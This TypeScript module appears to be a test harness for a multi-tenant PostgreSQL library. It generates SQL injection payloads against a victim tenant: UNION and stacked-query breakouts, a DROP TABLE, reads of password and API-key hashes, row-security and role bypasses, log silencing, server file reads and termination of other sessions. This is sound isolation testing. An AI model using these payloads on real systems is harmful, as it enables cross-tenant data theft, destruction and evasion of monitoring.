import { type Tenant } from '../../../src/tenancy/index.js';

/** Where in a statement the application glued a value in. */
export const CLAUSES = ['WHERE', 'ORDER BY', 'LIMIT', 'JSON path', 'LIKE'] as const;
export type Clause = (typeof CLAUSES)[number];

/** An attack: an SQL expression that tries to bring out the victim's rows, or a text sent as it stands. */
export interface Payload {
  /** What it tries: payloads of one kind are variations. */
  readonly kind: string;
  readonly name: string;
  readonly expression?: string;
  readonly text?: string;
}

/** What the attacker may know of the victim: the catalog shows names of schemas and roles to anybody. */
export type Victim = Pick<Tenant, 'id' | 'key' | 'schemaName' | 'roleName'>;

/** The rows the attack is after: `column` holds texts. */
export interface Prize {
  readonly table: string;
  readonly column: string;
  readonly tenantColumn: string;
}

type Aim = Victim & Prize;

const NOTES: Prize = { table: 'notes', column: 'body', tenantColumn: 'tenant_id' };

const bodies = ({ column }: Prize) => `SELECT string_agg(${column}, ',') FROM`;

/** Reads the table by its own name, its full name, and past row-level security. */
const reads = (v: Aim): [string, string][] => [
  ['full name of the table', `(${bodies(v)} "${v.schemaName}".${v.table})`],
  ['unqualified table', `(${bodies(v)} ${v.table})`],
  [
    'explicit tenant column',
    `(${bodies(v)} "${v.schemaName}".${v.table} t WHERE to_jsonb(t)->>'${v.tenantColumn}' = '${v.id}')`,
  ],
  ['row as text', `(SELECT string_agg(n::text, ',') FROM "${v.schemaName}".${v.table} n)`],
  ['row as json', `(SELECT json_agg(n)::text FROM "${v.schemaName}".${v.table} n)`],
  ['row type of the victim', `(SELECT (jsonb_populate_record(null::"${v.schemaName}".${v.table}, '{}')).${v.column})`],
  [
    'leaky cast in a filter',
    `(SELECT ${v.column} FROM "${v.schemaName}".${v.table} WHERE ${v.column}::int = 1 LIMIT 1)`,
  ],
  [
    'division by zero in a filter',
    `(SELECT ${v.column} FROM ${v.table} WHERE 1 / (length(${v.column}) - length(${v.column})) = 1 LIMIT 1)`,
  ],
  ['tablesample', `(${bodies(v)} "${v.schemaName}".${v.table} TABLESAMPLE SYSTEM (100))`],
  ['only', `(${bodies(v)} ONLY "${v.schemaName}".${v.table})`],
  [
    'locking read',
    `(SELECT string_agg(${v.column}, ',') FROM (SELECT ${v.column} FROM "${v.schemaName}".${v.table} FOR UPDATE) l)`,
  ],
  [
    'planner statistics',
    `(SELECT string_agg(histogram_bounds::text || most_common_vals::text, ',') FROM pg_stats WHERE tablename = '${v.table}')`,
  ],
  ['raw statistics', `(SELECT string_agg(stavalues1::text, ',') FROM pg_statistic)`],
  ['extended statistics', `(SELECT string_agg(most_common_vals::text, ',') FROM pg_stats_ext)`],
  ['the register', `(SELECT string_agg(t::text, ',') FROM meta.tenants t)`],
  ['keys of the register', `(SELECT string_agg(key_hash::text, ',') FROM meta.api_keys)`],
  ['password hashes', `(SELECT string_agg(rolpassword, ',') FROM pg_authid)`],
];

/** SQL inside strings: run by functions with the rights of whoever the session is by then. */
const dynamic = (v: Aim): [string, string][] => [
  ['query_to_xml', `query_to_xml('SELECT * FROM "${v.schemaName}".${v.table}', true, false, '')::text`],
  ['query_to_xmlschema', `query_to_xmlschema('SELECT * FROM "${v.schemaName}".${v.table}', true, false, '')::text`],
  [
    'query_to_xml_and_xmlschema',
    `query_to_xml_and_xmlschema('SELECT * FROM "${v.schemaName}".${v.table}', true, false, '')::text`,
  ],
  ['table_to_xml', `table_to_xml('"${v.schemaName}".${v.table}', true, false, '')::text`],
  ['schema_to_xml', `schema_to_xml('${v.schemaName}', true, false, '')::text`],
  ['database_to_xml', `left(database_to_xml(true, false, '')::text, 100000)`],
  ['cursor_to_xml', `cursor_to_xml('tenantry_cursor_1', 10, true, false, '')::text`],
  [
    'ts_stat',
    `(SELECT string_agg(word, ',') FROM ts_stat($q$SELECT to_tsvector('simple', ${v.column}) FROM "${v.schemaName}".${v.table}$q$))`,
  ],
  [
    'ts_rewrite',
    `ts_rewrite('a'::tsquery, $q$SELECT 'a'::tsquery, plainto_tsquery('simple', ${v.column}) FROM "${v.schemaName}".${v.table}$q$)::text`,
  ],
  [
    'query_to_xml in pieces',
    `query_to_xml(chr(83) || 'ELECT * FROM "${v.schemaName}".${v.table}', true, false, '')::text`,
  ],
  [
    'query_to_xml from hex',
    `query_to_xml(convert_from(decode('${hex(`SELECT * FROM "${v.schemaName}".${v.table}`)}', 'hex'), 'UTF8'), true, false, '')::text`,
  ],
  [
    'role changed inside the string',
    `query_to_xml($q$SELECT set_config('role', '${v.roleName}', true), (${bodies(v)} "${v.schemaName}".${v.table})$q$, true, false, '')::text`,
  ],
  [
    'write inside the string',
    `query_to_xml($q$UPDATE "${v.schemaName}".${v.table} SET ${v.column} = 'taken' RETURNING ${v.column}$q$, true, false, '')::text`,
  ],
  [
    'stacked inside the string',
    `query_to_xml($q$SELECT 1; SELECT * FROM "${v.schemaName}".${v.table}$q$, true, false, '')::text`,
  ],
];

/** Changes whose transaction it is, for the statement or for the session, then reads. */
const contexts = (v: Aim): [string, string][] => [
  ['tenant for the transaction', `set_config('tenantry.tenant_id', '${v.key}', true) || (${bodies(v)} ${v.table})`],
  ['tenant for the session', `set_config('tenantry.tenant_id', '${v.key}', false) || (${bodies(v)} ${v.table})`],
  [
    'tenant, then dynamic',
    `set_config('tenantry.tenant_id', '${v.key}', true) || query_to_xml('SELECT * FROM ${v.table}', true, false, '')::text`,
  ],
  [
    'role and tenant, then dynamic',
    `set_config('role', '${v.roleName}', true) || set_config('tenantry.tenant_id', '${v.key}', true) || query_to_xml('SELECT * FROM "${v.schemaName}".${v.table}', true, false, '')::text`,
  ],
  [
    'role, then dynamic',
    `set_config('role', '${v.roleName}', true) || query_to_xml('SELECT * FROM "${v.schemaName}".${v.table}', true, false, '')::text`,
  ],
  [
    'role and tenant for the session',
    `set_config('role', '${v.roleName}', false) || set_config('tenantry.tenant_id', '${v.key}', false)`,
  ],
  [
    'no role',
    `set_config('role', 'none', false) || query_to_xml('SELECT * FROM "${v.schemaName}".${v.table}', true, false, '')::text`,
  ],
  ['session authorization', `set_config('session_authorization', '${v.roleName}', false)`],
  [
    'search_path for the transaction',
    `set_config('search_path', '"${v.schemaName}"', true) || query_to_xml('SELECT * FROM ${v.table}', true, false, '')::text`,
  ],
  ['search_path for the session', `set_config('search_path', '"${v.schemaName}"', false)`],
  ['row security off', `set_config('row_security', 'off', true) || (${bodies(v)} ${v.table})`],
  ['a claim of its own', `set_config('tenantry.claim', '${v.key}|9999999999|00', true) || (${bodies(v)} ${v.table})`],
  [
    'evaluated first',
    `(SELECT string_agg(n.${v.column}, ',') FROM (SELECT set_config('tenantry.tenant_id', '${v.key}', true) OFFSET 0) c, ${v.table} n)`,
  ],
  [
    'lateral',
    `(SELECT string_agg(n.${v.column}, ',') FROM set_config('tenantry.tenant_id', '${v.key}', true) c, LATERAL (SELECT ${v.column} || left(c, 0) AS ${v.column} FROM ${v.table}) n)`,
  ],
  [
    'materialised first',
    `(WITH c AS MATERIALIZED (SELECT set_config('tenantry.tenant_id', '${v.key}', true) AS v) SELECT string_agg(n.${v.column}, ',') FROM c, ${v.table} n)`,
  ],
  ['qualified function', `pg_catalog.set_config('tenantry.tenant_id', '${v.key}', true) || (${bodies(v)} ${v.table})`],
  [
    'named arguments',
    `(SELECT set_config(setting_name => 'tenantry.tenant_id', new_value => '${v.key}', is_local => true)) || (${bodies(v)} ${v.table})`,
  ],
  ['quiet for the next borrower', `set_config('default_transaction_read_only', 'on', false)`],
  [
    'tripwire made blind',
    `set_config('log_statement', 'none', false) || set_config('client_min_messages', 'error', false)`,
  ],
];

/** Leaves something behind, listens in, or reaches for the server's own files and processes. */
const server = (v: Aim): [string, string][] => [
  ['session advisory lock', `pg_advisory_lock(4711)::text`],
  ['tried advisory lock', `pg_try_advisory_lock(4711)::text`],
  ['sleep', `pg_sleep(3)::text`],
  ['notification', `pg_notify('tenantry_tenants', '{"id":"${v.id}"}')::text`],
  ['large object', `lo_from_bytea(0, 'x'::bytea)::text`],
  ['large objects of others', `(SELECT string_agg(lo_get(oid)::text, ',') FROM pg_largeobject_metadata)`],
  ['others’ statements', `(SELECT string_agg(query, ',') FROM pg_stat_activity)`],
  ['others’ statements by function', `(SELECT string_agg(query, ',') FROM pg_stat_get_activity(NULL))`],
  ['locks of others', `(SELECT string_agg(l::text, ',') FROM pg_locks l)`],
  [
    'terminate others',
    `(SELECT string_agg(pg_terminate_backend(pid)::text, ',') FROM pg_stat_get_activity(NULL) WHERE pid <> pg_backend_pid())`,
  ],
  ['cancel others', `(SELECT string_agg(pg_cancel_backend(g)::text, ',') FROM generate_series(1, 3) g)`],
  ['file of the server', `pg_read_file('PG_VERSION')`],
  ['binary file', `encode(pg_read_binary_file('global/pg_control'), 'hex')`],
  ['directory of the server', `(SELECT string_agg(f, ',') FROM pg_ls_dir('.') f)`],
  ['reload', `pg_reload_conf()::text`],
  ['replication slot', `pg_create_physical_replication_slot('taken')::text`],
  ['snapshot', `pg_export_snapshot()`],
  [
    'dblink',
    `(SELECT string_agg(t.${v.column}, ',') FROM dblink('dbname=postgres', 'SELECT ${v.column} FROM "${v.schemaName}".${v.table}') AS t(${v.column} text))`,
  ],
  [
    'the isolating function itself',
    `tenancy.put_policy('"${v.schemaName}".${v.table}', 'open', 'PERMISSIVE', 'ALL', '${v.roleName}', 'true')::text`,
  ],
  ['grant to itself', `tenancy.grant_exactly('"${v.schemaName}".${v.table}', current_user, '{SELECT}')::text`],
];

/** Texts that break out by other means than an expression. */
const texts = (v: Aim): [string, string][] => [
  ['stacked read', `x'; SELECT * FROM "${v.schemaName}".${v.table}; --`],
  ['stacked role', `x'; SET ROLE "${v.roleName}"; SELECT * FROM "${v.schemaName}".${v.table}; --`],
  ['stacked end of the transaction', `x'; COMMIT; SET ROLE "${v.roleName}"; --`],
  ['stacked reset', `x'; RESET ROLE; RESET search_path; --`],
  ['stacked block', `x'; DO $$ BEGIN EXECUTE 'SET ROLE "${v.roleName}"'; END $$; --`],
  ['stacked drop', `1; DROP TABLE ${v.table}; --`],
  ['always true', `x' OR '1'='1`],
  ['always true, number', `1 OR 1=1`],
  ['union', `x' UNION ALL SELECT id, ${v.column} FROM "${v.schemaName}".${v.table} --`],
  ['union in brackets', `1) UNION ALL (SELECT id, ${v.column} FROM "${v.schemaName}".${v.table}`],
  ['backslash', `\\' UNION ALL SELECT id, ${v.column} FROM "${v.schemaName}".${v.table} --`],
  ['escape string', `x' || E'\\x27' UNION ALL SELECT id, ${v.column} FROM "${v.schemaName}".${v.table} --`],
  ['unicode quotes', `xʼ UNION ALL SELECT id, ${v.column} FROM "${v.schemaName}".${v.table} --`],
  ['comment', `x'/**/UNION/**/ALL/**/SELECT/**/id,${v.column}/**/FROM/**/"${v.schemaName}".${v.table}--`],
  ['unclosed comment', `x' /* "${v.schemaName}".${v.table}`],
  ['dollar quotes', `x' || $a$ || (${bodies(v)} "${v.schemaName}".${v.table}) || $a$`],
  ['parameter out of nowhere', `x' OR ${v.column} = $1 --`],
  ['line break', `x'\n--\nUNION ALL SELECT id, ${v.column} FROM "${v.schemaName}".${v.table} --`],
];

export function payloadsAgainst(victim: Victim, prize: Prize = NOTES): Payload[] {
  const aim = { ...victim, ...prize };
  const expressions = Object.entries({ reads, dynamic, contexts, server });
  return [
    ...expressions.flatMap(([kind, of]) => of(aim).map(([name, expression]) => ({ kind, name, expression }))),
    ...texts(aim).map(([name, text]) => ({ kind: 'texts', name, text })),
  ];
}

/** How an attacker carries an expression through a clause so that its value comes back, as a row or in an error. */
const CARRIERS: Readonly<Record<Clause, (expression: string) => string>> = {
  WHERE: (expression) => `x' UNION ALL SELECT gen_random_uuid(), (${expression})::text --`,
  'ORDER BY': (expression) => `(SELECT ('x' || (${expression})::text)::int)`,
  LIMIT: (expression) => `(SELECT ('x' || (${expression})::text)::int)`,
  'JSON path': (expression) => `x') IS NULL UNION ALL SELECT gen_random_uuid(), (${expression})::text --`,
  LIKE: (expression) => `x%' UNION ALL SELECT gen_random_uuid(), (${expression})::text --`,
};

export function injectionOf(payload: Payload, clause: Clause): string {
  return payload.text ?? CARRIERS[clause](payload.expression!);
}

function hex(text: string): string {
  return Buffer.from(text).toString('hex');
}
